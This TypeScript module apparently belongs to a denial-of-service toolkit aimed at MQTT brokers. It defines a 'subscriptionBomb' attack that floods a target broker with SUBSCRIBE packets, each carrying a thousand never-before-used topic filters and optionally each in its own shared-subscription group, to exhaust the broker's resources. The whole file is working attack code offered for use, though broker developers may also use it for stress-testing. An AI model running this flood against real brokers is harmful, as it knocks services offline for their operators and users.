import { Assault } from './assault.ts';
import { type Attack, type AttackOptions, type AttackTarget, planOf } from './attack.ts';
import { subscribe } from './packets.ts';

export interface SubscriptionBombOptions extends AttackOptions {
  /** Filters in one SUBSCRIBE. Default 1000. */
  readonly filters?: number;
  /** Each filter in a share group of its own. Default false. */
  readonly shared?: boolean;
}

/** Subscribes to filters that nobody has yet, on and on. An action is one SUBSCRIBE. */
export function subscriptionBomb(target: AttackTarget, options: SubscriptionBombOptions = {}): Attack {
  const { filters = 1000, shared = false } = options;
  const assault = new Assault(target, planOf({ rate: 0, clients: 1 }, options));
  const { name } = assault.plan;
  let made = 0;
  return assault.crew((client) => {
    const asked = Array.from({ length: filters }, () => {
      made += 1;
      const filter = `${name}/${made}/+/x`;
      return shared ? `$share/group-${made}/${filter}` : filter;
    });
    client.send(subscribe(asked));
  });
}
